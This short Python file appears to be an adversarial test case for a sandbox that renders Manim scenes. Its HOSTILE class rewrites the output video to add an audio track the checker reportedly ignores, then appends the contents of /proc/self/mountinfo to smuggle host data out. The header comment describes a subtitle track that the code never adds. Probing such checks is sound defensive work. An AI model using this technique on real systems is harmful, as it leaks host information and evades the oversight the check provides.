# class 3: tricking the trusted parent with what the scene leaves
# tries: a clip with the rendered video plus extra streams the check does not look at: a loud audio track and a
# subtitle track whose text is the scene's mountinfo (data smuggled into the run folder and the shared cache).
import av, numpy as np
from fractions import Fraction
class HOSTILE(Scene):
    def construct(self): self.add(Circle()); self.wait(0.3)
    def render(self, *a, **k):
        super().render(*a, **k)
        p = f'media/videos/scene/480p15/{type(self).__name__}.mp4'
        src = open(p, 'rb').read(); open('orig.mp4', 'wb').write(src)
        with av.open('orig.mp4') as ic, av.open(p, 'w') as oc:
            iv = ic.streams.video[0]; ov = oc.add_stream_from_template(iv)
            oa = oc.add_stream('aac', rate=48000, layout='mono')
            for x in ic.demux(iv):
                if x.dts is None: continue
                x.stream = ov; oc.mux(x)
            t = np.arange(48000) / 48000
            for j in range(0, 48000, 1024):
                fr = av.AudioFrame.from_ndarray((np.sin(2 * np.pi * 3000 * t[j:j + 1024]).astype(np.float32))[None], format='fltp', layout='mono')
                fr.sample_rate, fr.pts, fr.time_base = 48000, j, Fraction(1, 48000)
                oc.mux(oa.encode(fr))
            oc.mux(oa.encode(None))
        with open(p, 'ab') as f: f.write(b'\nSMUGGLED:' + open('/proc/self/mountinfo', 'rb').read()[:2000])
